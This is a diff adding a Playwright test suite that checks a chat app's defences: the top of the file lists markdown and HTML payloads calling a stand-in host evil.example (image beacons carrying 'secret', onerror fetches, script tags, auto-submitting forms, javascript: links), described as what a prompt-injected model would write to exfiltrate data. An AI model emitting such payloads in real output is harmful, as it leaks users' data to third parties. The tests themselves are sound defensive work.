@@ -1,0 +1,119 @@
+import type { Page } from "@playwright/test";
+import { expect, test } from "./fixtures.ts";
+
+const EVIL = "https://evil.example";
+
+/** What an injected model would write to carry data out of the page, or to run in it. */
+const PAYLOADS = [
+  `![secret](${EVIL}/a.png?q=secret)`,
+  `![][ref]\n\n[ref]: ${EVIL}/b.png`,
+  `<img src="${EVIL}/c.png" onerror="fetch('${EVIL}/d')">`,
+  `<iframe src="${EVIL}/e"></iframe><object data="${EVIL}/f"></object><embed src="${EVIL}/g">`,
+  `<svg><image href="${EVIL}/h.svg"/><use href="${EVIL}/i.svg#x"/></svg>`,
+  `<video poster="${EVIL}/j.png"><source src="${EVIL}/k.mp4"></video>`,
+  `<link rel="stylesheet" href="${EVIL}/l.css"><style>@import url(${EVIL}/m.css)</style>`,
+  `<div style="background:url(${EVIL}/n.png)">x</div>`,
+  `<script src="${EVIL}/o.js"></script><script>document.title = "taken"</script>`,
+  `<form action="${EVIL}/p"><input autofocus onfocus="this.form.submit()"></form>`,
+  `<meta http-equiv="refresh" content="0;url=${EVIL}/q">`,
+  `<base href="${EVIL}/">`,
+  "[press me](javascript:document.title='taken')",
+  "[and me](data:text/html,<script>document.title='taken'</script>)",
+  `\`\`\`mermaid\ngraph TD; A[<img src=${EVIL}/r.png>]\n\`\`\``,
+  `$$\\includegraphics{${EVIL}/s.png}$$`,
+  `![x](//evil.example/t.png) ![y](\\\\evil.example\\u.png)`,
+  `<picture><source srcset="${EVIL}/v.png"><img srcset="${EVIL}/w.png 2x"></picture>`,
+];
+
+/** Addresses outside of the app that the browser asks for. */
+function watchForeign(page: Page, own: string): string[] {
+  const foreign: string[] = [];
+  page.on("request", (request) => {
+    const url = new URL(request.url());
+    if (/^(https?|wss?):$/.test(url.protocol) && url.origin !== own) foreign.push(request.url());
+  });
+  return foreign;
+}
+
+test("what a model writes makes the browser ask nobody else, run nothing and go nowhere", async ({
+  page,
+  login,
+  baseURL,
+  consoleErrors,
+}) => {
+  test.setTimeout(120_000);
+  consoleErrors.allow(/Content Security Policy/);
+  await login("carol");
+  const foreign = watchForeign(page, new URL(baseURL ?? "").origin);
+  const script = `script:\n${JSON.stringify([`Here you are.\n\n${PAYLOADS.join("\n\n")}\n\nThat was all.`])}`;
+  await page.getByRole("textbox", { name: "Message" }).fill(script);
+  await page.getByRole("textbox", { name: "Message" }).press("Enter");
+  await expect(page.getByText("That was all.", { exact: true })).toBeVisible({ timeout: 60_000 });
+  await expect(page.getByRole("button", { name: "Send" })).toBeVisible();
+  await page.reload();
+  await expect(page.getByText("That was all.", { exact: true })).toBeVisible();
+
+  expect(foreign).toEqual([]);
+  expect(await page.title()).not.toContain("taken");
+  expect(new URL(page.url()).origin).toBe(new URL(baseURL ?? "").origin);
+  const inert = await page
+    .getByRole("main")
+    .locator(
+      "iframe, object, embed, form[action*='evil'], script, base, [onerror], [onfocus], a[href^='javascript:']",
+    );
+  await expect(inert).toHaveCount(0);
+});
+
+test("the page works under its policy: Chromium reports nothing that it refused", async ({ page, login }) => {
+  // A refusal is an error in the console, and the fixture fails the test on any.
+  await login("carol");
+  await page.getByRole("textbox", { name: "Message" }).fill("Hello");
+  await page.getByRole("textbox", { name: "Message" }).press("Enter");
+  await expect(page.getByText(/I act on GitHub/).first()).toBeVisible();
+});
+
+test("the session's cookie is out of reach of scripts and of other sites", async ({
+  page,
+  login,
+  context,
+}) => {
+  await login("carol");
+  const cookie = (await context.cookies()).find(({ name }) => name === "obo-session");
+  expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Lax", path: "/" });
+  expect(await page.evaluate(() => document.cookie)).not.toContain("obo-session");
+});
+
+test("a page of another site can neither frame the app, nor post to it, nor read from it", async ({
+  page,
+  login,
+  baseURL,
+  consoleErrors,
+}) => {
+  consoleErrors.allow(/./);
+  await login("carol");
+  await page.route(`${EVIL}/**`, (route) =>
+    route.fulfill({ contentType: "text/html", body: "<h1>Evil</h1>" }),
+  );
+  await page.goto(`${EVIL}/`);
+  const outcome = await page.evaluate(async (app) => {
+    const attempt = async (init: RequestInit) =>
+      fetch(`${app}/api/langgraph/threads/search`, { credentials: "include", ...init }).then(
+        (answer) => `read ${answer.status}`,
+        () => "refused",
+      );
+    const frame = document.createElement("iframe");
+    frame.src = `${app}/chat`;
+    document.body.append(frame);
+    await new Promise((resolve) => {
+      frame.onload = resolve;
+    });
+    return {
+      post: await attempt({ method: "POST", headers: { "content-type": "application/json" }, body: "{}" }),
+      simplePost: await attempt({ method: "POST", body: "{}" }),
+      get: await attempt({ method: "GET" }),
+    };
+  }, baseURL);
+  expect(outcome).toEqual({ post: "refused", simplePost: "refused", get: "refused" });
+  const framed = page.frames().find((frame) => frame.url().startsWith(baseURL ?? "none"));
+  expect(framed).toBeUndefined();
+});
